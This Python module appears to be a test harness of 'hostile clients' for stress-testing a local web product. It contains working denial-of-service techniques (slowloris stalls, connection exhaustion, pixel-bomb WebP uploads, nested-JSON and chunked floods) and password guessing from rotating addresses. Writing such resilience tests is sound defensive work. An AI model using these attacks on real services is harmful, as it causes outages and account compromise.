"""Hostile clients: each sends one kind of request to a product, as often as it can.

They run in a process of their own and have addresses of their own, so that limits for them do not
affect other users.
"""

import json
import random
import resource
import selectors
import socket
import time
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from http.client import HTTPConnection, HTTPException
from io import BytesIO
from multiprocessing import get_context
from threading import Thread
from typing import Any
from urllib.parse import urlencode

from PIL import Image

_ADDRESS = "127.0.6.6"
_TIMEOUT = 30.0
_BOUNDARY = "hostile"
_LARGE_SIDES = (6000, 8000)


@dataclass(frozen=True)
class Target:
    """What a hostile client knows of a product: its own account, and the e-mail of another user."""

    host: str
    port: int
    email: str
    password: str
    token: str
    conversation_id: int
    victims_email: str

    def connect(self, address: str = _ADDRESS) -> socket.socket:
        """A connection from an address of the attacker's."""
        return socket.create_connection((self.host, self.port), _TIMEOUT, (address, 0))

    def request(
        self,
        method: str,
        path: str,
        body: bytes | None = None,
        headers: Mapping[str, str] | None = None,
        address: str = _ADDRESS,
    ) -> int:
        """Make one request on a connection of its own; the status, 0 if there was no answer."""
        connection = HTTPConnection(self.host, self.port, _TIMEOUT, source_address=(address, 0))
        try:
            connection.request(method, path, body, dict(headers or {}))
            response = connection.getresponse()
            response.read()
        except (OSError, HTTPException):
            return 0
        finally:
            connection.close()
        return response.status

    def register(self, name: str) -> str:
        """The token of another account with the attacker's password."""
        account = {"email": f"{name}@example.com", "name": "Mallory", "password": self.password}
        connection = HTTPConnection(self.host, self.port, _TIMEOUT, source_address=(_ADDRESS, 0))
        with closing(connection):
            connection.request("POST", "/account/reg", json.dumps(account))
            token: str = json.loads(connection.getresponse().read())["token"]
        return token

    @property
    def signed_in(self) -> dict[str, str]:
        """Headers with the attacker's token."""
        return {"Authorization": self.token}


Attack = Callable[[Target, random.Random], None]


def _in_parallel(count: int, action: Callable[[], object]) -> None:
    """Repeat an action on so many threads for ever."""

    def repeat() -> None:
        while True:
            with suppress(OSError):
                action()

    threads = [Thread(target=repeat, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    threads[0].join()


def _hold_open(target: Target, count: int, beginning: bytes) -> None:
    """Begin the same thing on so many connections, say no more, and begin again when cut off."""
    connections: list[socket.socket] = []
    while True:
        for _ in range(count - len(connections)):
            with suppress(OSError):
                connection = target.connect()
                connection.sendall(beginning)
                connection.setblocking(False)
                connections.append(connection)
        time.sleep(0.2)
        connections = [each for each in connections if not _has_ended(each)]


def _has_ended(connection: socket.socket) -> bool:
    try:
        ended = connection.recv(65536) == b""
    except BlockingIOError:
        return False
    except OSError:
        ended = True
    if ended:
        connection.close()
    return ended


def _flood(target: Target, count: int, requests: bytes) -> None:
    """Send the same requests again and again on so many connections, and wait for no answer."""
    selector = selectors.DefaultSelector()
    unsent: dict[Any, memoryview] = {}
    while True:
        for _ in range(count - len(unsent)):
            with suppress(OSError):
                opened = target.connect()
                opened.setblocking(False)
                selector.register(opened, selectors.EVENT_READ | selectors.EVENT_WRITE)
                unsent[opened] = memoryview(requests)
        for key, events in selector.select(0.2):
            connection: Any = key.fileobj
            try:
                if events & selectors.EVENT_READ and not connection.recv(65536):
                    raise ConnectionResetError
                if events & selectors.EVENT_WRITE:
                    rest = unsent[connection][connection.send(unsent[connection]) :]
                    unsent[connection] = rest or memoryview(requests)
            except BlockingIOError:
                continue
            except OSError:
                selector.unregister(connection)
                connection.close()
                del unsent[connection]


def _webp(side: int) -> bytes:
    """A picture of 40 bytes whose pixels fill the memory."""
    picture = BytesIO()
    Image.new("RGBA", (side, side), (1, 2, 3, 200)).save(picture, "WEBP", lossless=True, method=0)
    return picture.getvalue()


def send_large_pictures(target: Target, chance: random.Random) -> None:
    """Send pictures of 40 bytes that are 36 or 64 megapixels large, on 24 connections."""
    head = f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="'
    fields = (
        f'{head}conversationId"\r\n\r\n{target.conversation_id}\r\n'
        f'{head}image"; filename="x.webp"\r\n\r\n'
    ).encode()
    bodies = [
        fields + b"%b\r\n--%b--\r\n" % (_webp(side), _BOUNDARY.encode()) for side in _LARGE_SIDES
    ]
    headers = target.signed_in | {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}

    def send() -> None:
        target.request("POST", "/conversations/image", chance.choice(bodies), headers)

    _in_parallel(24, send)


def put_large_avatars(target: Target, chance: random.Random) -> None:
    """Change the avatars of 4 accounts to pictures of 36 or 64 megapixels, on 16 connections.

    Zeros behind the picture make each as large as an avatar may be, 2 MiB.
    """
    bodies = []
    for side in _LARGE_SIDES:
        avatar = b64encode(_webp(side).ljust(2 * 2**20, b"\0")).decode()
        changes = {"origin_password": target.password, "avatar": avatar}
        bodies.append(json.dumps(changes).encode())
    tokens = [target.register(f"mallory-{chance.randbytes(8).hex()}") for _ in range(4)]

    def put() -> None:
        headers = {"Authorization": chance.choice(tokens)}
        target.request("PUT", "/account/info", chance.choice(bodies), headers)

    _in_parallel(16, put)


def stall_bodies(target: Target, _: random.Random) -> None:
    """Begin 220 sign-ins with a large body that never ends; no token."""
    head = b"POST /account/login HTTP/1.1\r\nHost: x\r\nContent-Length: 65600\r\n\r\n"
    _hold_open(target, 220, head + b" " * 65536)


def stall_chat_bodies(target: Target, _: random.Random) -> None:
    """Begin 220 requests to chat with a large body that never ends; no token."""
    head = b"GET /csrf HTTP/1.1\r\nHost: x\r\nContent-Length: 65600\r\n\r\n"
    _hold_open(target, 220, head + b" " * 65536)


def stall_heads(target: Target, _: random.Random) -> None:
    """Begin 200 requests with 97 headers of 8,000 bytes and no end; no token."""
    fields = b"".join(b"X-%d: %b\r\n" % (number, b"x" * 8000) for number in range(97))
    _hold_open(target, 200, b"GET /livez HTTP/1.1\r\nHost: x\r\n" + fields)


def hold_idle_connections(target: Target, _: random.Random) -> None:
    """Open 10,500 connections and say nothing; no token."""
    _hold_open(target, 10_500, b"")


def sign_in(target: Target, _: random.Random) -> None:
    """Sign in with the right password on 220 connections."""
    body = json.dumps({"email": target.email, "password": target.password}).encode()
    _in_parallel(220, lambda: target.request("POST", "/account/login", body))


def guess_passwords(target: Target, chance: random.Random) -> None:
    """Guess the bystander's password from 20 addresses, 10 times a second."""
    while True:
        guess = f"guess_{chance.randrange(10**9)}"
        body = json.dumps({"email": target.victims_email, "password": guess}).encode()
        address = f"127.0.7.{chance.randrange(1, 21)}"
        target.request("POST", "/account/login", body, address=address)
        time.sleep(0.1)


def read_long_history(target: Target, _: random.Random) -> None:
    """Read the whole of a long conversation: 40 connections read nothing, 8 read all."""
    query = urlencode({"conversationId": target.conversation_id})
    path = f"/conversations/messages?{query}"
    request_bytes = (
        f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: {target.token}\r\n\r\n".encode()
    )
    stuck = [target.connect() for _ in range(40)]
    for connection in stuck:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.sendall(request_bytes)
    _in_parallel(8, lambda: target.request("GET", path, headers=target.signed_in))


def show_bad_tokens(target: Target, chance: random.Random) -> None:
    """Show tokens with a wrong signature on 50 connections, without waiting for answers."""
    head, payload, _ = target.token.split(".")
    tokens = (f"{head}.{payload}.{chance.randbytes(64).hex()[:86]}" for _ in range(1000))
    request_bytes = (
        f"GET /friends HTTP/1.1\r\nHost: x\r\nAuthorization: {each}\r\n\r\n" for each in tokens
    )
    _flood(target, 50, "".join(request_bytes).encode())


def send_small_chunks(target: Target, _: random.Random) -> None:
    """Send a body of a mebibyte in chunks of one byte, on 20 connections."""
    head = (
        "PUT /account/info HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
        f"Authorization: {target.token}\r\n\r\n"
    )
    _flood(target, 20, head.encode() + b"1\r\n \r\n" * 2**20 + b"0\r\n\r\n")


def send_nested_json(target: Target, _: random.Random) -> None:
    """Send 7 MiB of empty lists and one lone surrogate, on 4 connections."""
    body = b'{"origin_password": "x", "name": [' + b"[]," * (7 * 2**20 // 3) + b'"\\ud800"]}'
    _in_parallel(4, lambda: target.request("PUT", "/account/info", body, target.signed_in))


def fetch_documents(target: Target, _: random.Random) -> None:
    """Fetch the documentation and the health of everything on 200 connections; no token.

    They wait for no answer.
    """
    paths = "/openapi.json", "/healthz", "/healthz"
    request_bytes = "".join(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n" for path in paths)
    _flood(target, 200, request_bytes.encode())


def list_conversations(target: Target, _: random.Random) -> None:
    """List conversations on 250 connections."""
    _in_parallel(250, lambda: target.request("GET", "/conversations", headers=target.signed_in))


def open_websockets(target: Target, _: random.Random) -> None:
    """Open 900 websockets and send messages of which each is told, on 8 connections."""
    message = json.dumps({"conversationId": target.conversation_id, "content": "x"}).encode()
    headers = (
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: aG9zdGlsZWhvc3RpbGVob3N0\r\n"
    )
    request_bytes = f"GET /ws/?token={target.token} HTTP/1.1\r\nHost: x\r\n{headers}\r\n".encode()

    def send() -> None:
        target.request("POST", "/conversations/messages", message, target.signed_in)

    Thread(target=_in_parallel, args=(8, send), daemon=True).start()
    _hold_open(target, 900, request_bytes)


ATTACKS: tuple[Attack, ...] = (
    send_large_pictures,
    put_large_avatars,
    stall_bodies,
    stall_chat_bodies,
    stall_heads,
    hold_idle_connections,
    sign_in,
    guess_passwords,
    read_long_history,
    show_bad_tokens,
    send_small_chunks,
    send_nested_json,
    fetch_documents,
    list_conversations,
    open_websockets,
)


@contextmanager
def attacking(attack: Attack, target: Target, seed: int) -> Iterator[None]:
    """Let a hostile client attack during the block, from a process of its own."""
    process = get_context("spawn").Process(target=_attack, args=(attack, target, seed), daemon=True)
    process.start()
    try:
        yield
    finally:
        process.kill()
        process.join()


def _attack(attack: Attack, target: Target, seed: int) -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack(target, random.Random(seed))
